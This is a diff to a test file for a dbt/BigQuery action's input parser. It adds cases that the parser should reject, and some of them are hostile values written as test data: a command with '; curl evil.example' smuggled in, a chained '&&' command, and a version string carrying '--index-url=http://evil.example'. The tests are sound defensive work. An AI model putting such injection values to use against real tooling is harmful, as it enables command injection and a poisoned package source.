@@ -105,6 +105,15 @@ describe('inputs', () => {
     ['build -tprod', 'use the input target'],
     ['build -xtprod', 'use the input target'],
     ['--target-path /x build', '--target-path is set by the action: set target-path in dbt_project.yml'],
+    ['build --profiles-dir /tmp/evil', '--profiles-dir is set by the action'],
+    [
+      'build; curl evil.example',
+      '; stands outside quotes: no shell reads this line; write one command per line',
+    ],
+    [
+      'run --select people && dbt test',
+      '&& stands outside quotes: no shell reads this line; write one command per line',
+    ],
     ['build --no-write-json', '--no-write-json is set by the action'],
     ['source freshness -o x.json', 'results-path'],
     ["run --vars '[1]'", 'is no YAML mapping'],
@@ -125,7 +134,12 @@ describe('inputs', () => {
     ],
     ['dbt 2', { 'dbt-core-version': '2.0.5' }, 'the BigQuery adapter has no dbt 2'],
     ['a project outside the workspace', { 'project-dir': '../x' }, 'outside the workspace'],
-    ['a dataset that is none', { dataset: 'a.b' }, 'is not a dataset name'],
+    ['a dataset that is none', { dataset: 'a.b`' }, 'is not a dataset name'],
+    [
+      'a version that is a requirement',
+      { 'dbt-core-version': '1.11.16 --index-url=http://evil.example' },
+      'is not an exact 1.x version',
+    ],
     ['vars that are no object', { vars: '[1]' }, 'is not a mapping of names to values'],
   ])('refuse %s', (_, over, message) => {
     expect(thrownBy(() => parse(over as Record<string, string>))).toMatchObject({
